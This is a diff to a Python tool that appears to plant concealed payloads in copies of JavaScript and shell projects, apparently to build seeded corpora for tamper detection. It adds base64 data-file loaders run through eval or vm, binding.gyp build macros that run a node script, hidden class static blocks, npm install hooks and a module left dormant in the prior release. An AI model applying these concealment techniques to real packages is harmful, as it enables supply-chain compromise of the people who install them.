@@ -10,6 +10,9 @@
   --prefix TEXT    stands before the member's path in the record, such as "app.asar!/"
   --module PATTERN only files whose path matches this shell pattern
   --purpose NAME   --place NAME   --hiding NAME   --host-style NAME     fix what is otherwise drawn
+  --side SIDE      setting or measuring: draws from the payload families and hiding styles of that side only,
+                   from more places, and from changes that touch what the release before had (stages.py)
+  --old TREE       the release before, a copy that is changed where the tampering takes two releases
   --list           prints what can be drawn
 
 The same tree, seed and options give the same copy.  Hosts are reserved names only, so whatever is
@@ -17,6 +20,7 @@ written reaches nobody; nothing that is written is run.
 """
 
 import argparse
+import base64
 import fnmatch
 import hashlib
 import json
@@ -28,20 +32,28 @@ import sys
 sys.dont_write_bytecode = True
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 
+import families  # noqa: E402
+import families_sh  # noqa: E402
 import hiding  # noqa: E402
 import hosts  # noqa: E402
 import jslex  # noqa: E402
 import payload_js  # noqa: E402
 import payload_sh  # noqa: E402
+import stages  # noqa: E402
 import tree  # noqa: E402
 
 PLACES = {"append": 3, "prepend": 2, "far-right": 4, "in-function": 5, "new-module": 3, "hook": 3,
           "bundle": 2}
+MORE_PLACES = {"class-member": 3, "data-file": 2, "build-macro": 2, "second-release": 2}      # with a side
 NODE_PURPOSES = {"download-run": 5, "exfil-environment": 3, "exfil-files": 3, "reverse-shell": 2,
                  "persistence": 2}
 PAGE_PURPOSES = {"download-run": 3, "skimmer": 5, "exfil-page": 2}
 HIDING = dict({"none": 8}, **{s: 2 for s in hiding.STRING_STYLES[1:]},
               **{s: 1 for s in hiding.CODE_STYLES})
+HIDING_SIDES = {
+    "setting": HIDING,
+    "measuring": dict({"none": 4, "in-style": 5}, **{s: 2 for s in hiding.MEASURING_STRING_STYLES},
+                      **{s: 1 for s in hiding.MEASURING_CODE_STYLES})}
 EDITS = ["trust-host", "trust-key", "weaken-check", "new-dependency"]
 SHELL_PLACES = {"append": 3, "middle": 3, "new-script": 3, "cron-file": 1}
 MODULE_NAMES = """cache telemetry metrics polyfill shim helpers env-info compat runtime loader
@@ -53,6 +65,10 @@ PAGE_FOLDERS = {"renderer", "widget", "public", "static", "browser", "www"}
 
 class Nothing(Exception):
     """This draw cannot be carried out on this tree."""
+
+
+class NothingFits(Exception):
+    """No draw can."""
 
 
 def draw(rng, table):
@@ -87,16 +103,20 @@ class Tamperer:
             rng = random.Random("tamper:%d:%d" % (self.seed, attempt))
             try:
                 record = self.attempt(rng, host)
-            except (Nothing, jslex.Broken, UnicodeDecodeError):
+            except (Nothing, jslex.Broken, UnicodeDecodeError, hiding.NothingHidden):
                 continue
-            record.update({"tamperer": 1, "seed": self.seed, "attempt": attempt, "kind": self.kind,
+            record.update({"tamperer": 1, "side": self.options.side, "seed": self.seed, "attempt": attempt, "kind": self.kind,
                            "product": self.product})
             return record
-        raise SystemExit("tamper.py: nothing fits this tree with these options")
+        raise NothingFits("nothing fits this tree with these options")
 
     def attempt(self, rng, host):
         if self.options.purpose in EDITS:
             return self.edit(rng, host)
+        if self.options.side and self.kind == "js" and (
+                self.options.purpose in stages.STAGES or not self.options.purpose and not self.options.place
+                and rng.random() < stages.SHARE):
+            return stages.draw(self, rng, host)
         place, module = self.options.place, self.options.module or ""
         if self.kind == "shell":
             return self.shell(rng, host)
@@ -144,19 +164,25 @@ class Tamperer:
     # -- JavaScript ------------------------------------------------------------------------------
 
     def javascript(self, rng, host):
-        places = dict(PLACES)
+        places = dict(PLACES, **MORE_PLACES) if self.options.side else dict(PLACES)
         if self.options.app or not self.package:
-            places.pop("hook")
+            for name in ("hook", "build-macro"):
+                places.pop(name, None)
+        if not self.options.old:
+            places.pop("second-release", None)
         place = self.options.place or draw(rng, places)
-        if place == "hook":
-            return self.hook(rng, host)
+        if place in ("hook", "build-macro"):
+            return self.hook(rng, host) if place == "hook" else self.build_macro(rng, host)
         path, text = self.draw_script(rng, lambda p, t: tree.is_bundle(t) == (place == "bundle"))
         kind, env = self.environment(rng, path, text)
-        if place == "new-module" and env == "browser":
+        if place in ("new-module", "second-release") and env == "browser" or place == "data-file" and env != "cjs":
             raise Nothing()
-        made = self.payload(rng, env, host)
-        if place == "new-module":
-            return self.new_module(rng, path, text, kind, made)
+        made = self.payload(rng, env, host, text)
+        self.settle(rng, made, os.path.dirname(path), os.path.splitext(path)[1])
+        if place in ("new-module", "second-release"):
+            return self.new_module(rng, path, text, kind, made, place)
+        if place == "data-file":
+            return self.data_file(rng, path, text, kind, made)
         tight = place in ("far-right", "bundle") or rng.random() < 0.25
         statement = jslex.minify(made.statement) if tight else made.statement
         changed, start, length = insert(rng, text, place, statement, kind)
@@ -165,7 +191,21 @@ class Tamperer:
         tree.write(os.path.join(self.root, path), changed)
         return self.describe(path, changed, start, length, place, made, minified=tight)
 
-    def payload(self, rng, env, host):
+    def settle(self, rng, made, folder, suffix):
+        """Writes the second file of a payload that is split over two."""
+        made.also = []
+        if not made.other_file:
+            return
+        path = self.new_path(rng, folder, suffix)
+        body = "module.exports = {\n%s\n};\n" % ",\n".join(
+            "  %s: %s" % (k, hiding.quoted(rng, v)) for k, v in made.other_file.items())
+        tree.write(os.path.join(self.root, path), body)
+        made.statement = made.statement.replace(payload_js.OTHER_FILE, "./" + os.path.basename(path))
+        made.also = [self.at(path, body, 0, len(body) - 1)]
+
+    def payload(self, rng, env, host, text=""):
+        if self.options.side:
+            return self.family(rng, env, host, text)
         table = PAGE_PURPOSES if env == "browser" else NODE_PURPOSES
         purpose = self.options.purpose or draw(rng, table)
         if purpose not in table:
@@ -178,12 +218,32 @@ class Tamperer:
         made.purpose, made.style, made.env = purpose, style, env
         return made
 
+    def family(self, rng, env, host, text):
+        """A payload of the families and hiding styles of one side."""
+        side = self.options.side
+        table = families.purposes("page" if env == "browser" else "node", side)
+        purpose = self.options.purpose or rng.choice(sorted(table))
+        style = self.options.hiding or draw(rng, HIDING_SIDES[side])
+        if purpose not in table or style == "split-files" and env != "cjs":
+            raise Nothing()
+        if env == "browser" and style in ("code-deflate", "code-gzip"):
+            style = "code-base64" if side == "setting" else "code-pieces"
+        words = None
+        if style == "in-style":
+            words = sorted(set(re.findall(r"\b[a-z][a-zA-Z]{3,14}\b", text)) - payload_js.RESERVED_NAMES)
+            if len(words) < 20:
+                raise Nothing()
+        made = payload_js.build(rng, env, purpose, host, style, False,
+                                lambda p: families.make(p, purpose, side), words)
+        made.purpose, made.style, made.env = purpose, style, env
+        return made
+
     def new_path(self, rng, folder, suffix):
         names = [n for n in MODULE_NAMES
                  if not os.path.exists(os.path.join(self.root, folder, n + suffix))]
         return os.path.join(folder, rng.choice(names) + suffix)
 
-    def new_module(self, rng, path, text, kind, made):
+    def new_module(self, rng, path, text, kind, made, place):
         suffix = os.path.splitext(path)[1]
         path2 = self.new_path(rng, os.path.dirname(path), suffix)
         body = made.statement
@@ -199,28 +259,73 @@ class Tamperer:
             raise Nothing()
         tree.write(os.path.join(self.root, path), changed)
         tree.write(os.path.join(self.root, path2), module)
-        record = self.describe(path2, module, len(head), len(body), "new-module", made)
+        if place == "second-release":                  # the first release brought it, asleep
+            tree.write(os.path.join(self.options.old, path2), module)
+        record = self.describe(path2, module, len(head), len(body), place, made)
         record["also"].append(self.at(path, changed, start, length))
+        return record
+
+    def data_file(self, rng, path, text, kind, made):
+        """The code stands in a data file; what is added to a script reads it and runs it."""
+        name = os.path.basename(self.new_path(rng, os.path.dirname(path), rng.choice([".json", ".dat", ".txt", ".tpl"])))
+        code = jslex.minify(made.statement) if rng.random() < 0.5 else made.statement
+        coded = rng.random() < 0.5
+        held = base64.b64encode(code.encode()).decode() if coded else code
+        body = json.dumps({"version": 3, "entries": held}, indent=1) + "\n" if name.endswith(".json") else held + "\n"
+        value = "require('./%s').entries" % name if name.endswith(".json") else \
+            "require('fs').readFileSync(require('path').join(__dirname, '%s'), 'utf8')" % name
+        if coded:
+            value = "Buffer.from(%s, 'base64').toString()" % value
+        line = rng.choice(["eval(%s);", "new Function('require', %s)(require);", "require('vm').runInThisContext(%s);"]) % value
+        changed, start, length = insert(rng, text, rng.choice(["append", "prepend", "in-function"]), line, kind)
+        if not tree.javascript_is_valid(changed, kind) or not tree.javascript_is_valid(made.statement, "cjs"):
+            raise Nothing()
+        tree.write(os.path.join(self.root, path), changed)
+        full = os.path.join(os.path.dirname(path), name)
+        tree.write(os.path.join(self.root, full), body)
+        record = self.describe(path, changed, start, length, "data-file", made)
+        record["also"].append(self.at(full, body, 0, len(body) - 1))
+        return record
+
+    def build_macro(self, rng, host):
+        """What a build file runs while it is read."""
+        made = self.payload(rng, "cjs", host, "")
+        if os.path.exists(os.path.join(self.root, "binding.gyp")):
+            raise Nothing()
+        folder = rng.choice(["scripts", "build-tools", "lib"])
+        self.settle(rng, made, folder, ".js")
+        path = self.new_path(rng, folder, ".cjs" if self.package.get("type") == "module" else ".js")
+        body = made.statement + "\n"
+        if not tree.javascript_is_valid(body, "cjs"):
+            raise Nothing()
+        gyp = rng.choice(["{ \"targets\": [{ \"target_name\": \"addon\", \"type\": \"none\", \"sources\": [\"<!(node %s)\"] }] }\n",
+                          "{\n  'variables': { 'napi': '<!@(node %s)' },\n  'targets': [{ 'target_name': 'noop', 'type': 'none' }]\n}\n"]) % path
+        tree.write(os.path.join(self.root, path), body)
+        tree.write(os.path.join(self.root, "binding.gyp"), gyp)
+        record = self.describe(path, body, 0, len(body) - 1, "build-macro", made)
+        record["also"].append(self.at("binding.gyp", gyp, 0, len(gyp) - 1))
         return record
 
     def hook(self, rng, host):
         """A script that npm runs at installation: a new file, or a command in package.json."""
-        made = self.payload(rng, "cjs", host)
+        made = self.payload(rng, "cjs", host, "")
         hook = rng.choice(["preinstall", "install", "postinstall", "postinstall", "prepare"])
         package = tree.read(os.path.join(self.root, "package.json"))
         data = json.loads(package)
         if hook in data.get("scripts", {}):
             raise Nothing()
-        inline = made.purpose == "download-run" and rng.random() < 0.3
+        inline = made.purpose == "download-run" and rng.random() < 0.3 and self.options.side != "measuring"
         if inline:
             text, style, url, _ = payload_sh.build(rng, "download-run", host, "none")
             if "\n" in text:
                 raise Nothing()
             made.style, made.url, made.api, made.pairs, made.scope = style, url, ["curl"], [], "none"
+            made.family, made.also = "download-run/inline", []
             command = text
         else:
             folder = rng.choice(["scripts", "lib", "build", "."])
             path = os.path.normpath(self.new_path(rng, folder, ".cjs" if data.get("type") == "module" else ".js"))
+            self.settle(rng, made, os.path.dirname(path), os.path.splitext(path)[1])
             body = made.statement
             head = rng.choice(["", "'use strict';\n\n", "#!/usr/bin/env node\n"])
             if not tree.javascript_is_valid(head + body + "\n", "cjs"):
@@ -258,11 +363,12 @@ class Tamperer:
                     yield path
 
     def shell(self, rng, host):
-        purpose = self.options.purpose or rng.choice(payload_sh.PURPOSES)
-        style = self.options.hiding or rng.choice(payload_sh.STYLES)
-        if purpose not in payload_sh.PURPOSES or style not in payload_sh.STYLES:
+        source = families_sh if self.options.side == "measuring" else payload_sh
+        purpose = self.options.purpose or rng.choice(source.PURPOSES)
+        style = self.options.hiding or rng.choice(source.STYLES)
+        if purpose not in source.PURPOSES or style not in source.STYLES:
             raise Nothing()
-        text, style, url, plain = payload_sh.build(rng, purpose, host, style)
+        text, style, url, plain = source.build(rng, purpose, host, style)
         made = payload_js.Made(statement=text, host=host, url=url, api=["shell"], gate=None, pairs=[],
                                purpose=purpose, style=style, env="shell", naming="", plain=plain,
                                scope="none" if style == "none" else "code")
@@ -360,7 +466,8 @@ class Tamperer:
         record.update({
             "place": place, "purpose": made.purpose, "api": made.api, "environment": made.env,
             "hiding": made.style, "hidden": made.scope, "minified": minified, "gate": made.gate,
-            "names": made.naming, "host": made.host, "url": made.url, "also": [],
+            "names": made.naming, "host": made.host, "url": made.url, "also": list(getattr(made, "also", [])),
+            "family": getattr(made, "family", made.purpose),
             "statement_sha256": hashlib.sha256(excerpt.encode()).hexdigest(),
         })
         if self.options.reveal:
@@ -412,6 +519,8 @@ def insert(rng, text, place, statement, kind):
         gap = rng.choice([" ", " ", " ", "\t"]) * rng.randrange(180, 3200)
         return text[:spot.offset] + gap + statement + text[spot.offset:], \
             spot.offset + len(gap), len(statement)
+    if place == "class-member":
+        return insert_member(rng, text, statement, newline)
     if place == "in-function":
         spots = [p for p in found if p.ends_line and p.function is not None]
         if not spots:
@@ -434,6 +543,27 @@ def insert(rng, text, place, statement, kind):
     if not statement.endswith((";", "}")):
         statement += ";"
     return text[:spot.offset] + statement + text[spot.offset:], spot.offset, len(statement)
+
+
+def insert_member(rng, text, statement, newline):
+    """A block that runs when the class is made, or a method that its constructor calls."""
+    heads = list(re.finditer(r"^([ \t]*)(?:export )?(?:default )?class [A-Za-z_$][\w$]*(?: extends [\w$.]+)? \{[ \t]*\r?$", text, re.M))
+    if not heads:
+        raise Nothing()
+    head = rng.choice(heads)
+    margin = head.group(1) + ("\t" if "\n\t" in text else "  ")
+    inner = margin + margin[-1:] * (1 if margin.endswith("\t") else 2)
+    body = (newline + inner).join(statement.split(newline)) if "`" not in statement else statement
+    built = re.compile(r"^[ \t]+constructor\([^)\n]*\) \{[ \t]*\r?$(?:\r?\n[ \t]+super\([^\n]*\);)?", re.M).search(text, head.end())
+    after = re.compile(r"^%s\}" % head.group(1), re.M).search(text, head.end())
+    if built and after and built.start() < after.start() and rng.random() < 0.6:
+        name = rng.choice(["warmUp", "prepareState", "syncDefaults", "trackUsage"])
+        text = text[:built.end()] + newline + inner + "this.%s();" % name + text[built.end():]
+        lead = newline + margin + name + "() {" + newline + inner
+    else:
+        lead = newline + margin + "static {" + newline + inner
+    at = head.end()
+    return text[:at] + lead + body + newline + margin + "}" + newline + text[at:], at + len(lead), len(body)
 
 
 def shell_insert(rng, text, place, command):
@@ -470,7 +600,7 @@ def main(argv):
     parser.add_argument("--prefix", default="")
     parser.add_argument("--reveal", action="store_true")
     parser.add_argument("--list", action="store_true")
-    for name in ("record", "product", "module", "purpose", "place", "hiding", "host-style"):
+    for name in ("record", "product", "module", "purpose", "place", "hiding", "host-style", "side", "old"):
         parser.add_argument("--" + name)
     options = parser.parse_args(argv)
     if options.list:
@@ -481,11 +611,21 @@ def main(argv):
         print("places: " + " ".join(PLACES) + "; in shell: " + " ".join(SHELL_PLACES))
         print("hiding: " + " ".join(HIDING) + "; in shell: " + " ".join(sorted(set(payload_sh.STYLES))))
         print("hosts: " + " ".join(hosts.STYLES))
+        for side in ("setting", "measuring"):
+            print("with --side %s:" % side)
+            print("  in programs: " + " ".join(sorted(families.purposes("node", side))))
+            print("  in pages: " + " ".join(sorted(families.purposes("page", side))))
+            print("  where the release before helped: " + " ".join(stages.STAGES))
+            print("  places: " + " ".join(dict(PLACES, **MORE_PLACES)))
+            print("  hiding: " + " ".join(HIDING_SIDES[side]))
         return 0
     if options.seed is None or not options.target:
         parser.error("SOURCE, TARGET and --seed are needed")
     tree.copy(options.source, options.target)
-    record = Tamperer(options.target, options.seed, options).run()
+    try:
+        record = Tamperer(options.target, options.seed, options).run()
+    except NothingFits as why:
+        raise SystemExit("tamper.py: %s" % why)
     path = options.record or options.target.rstrip("/") + ".record.json"
     with open(path, "w", encoding="utf-8") as f:
         json.dump(record, f, indent=2)
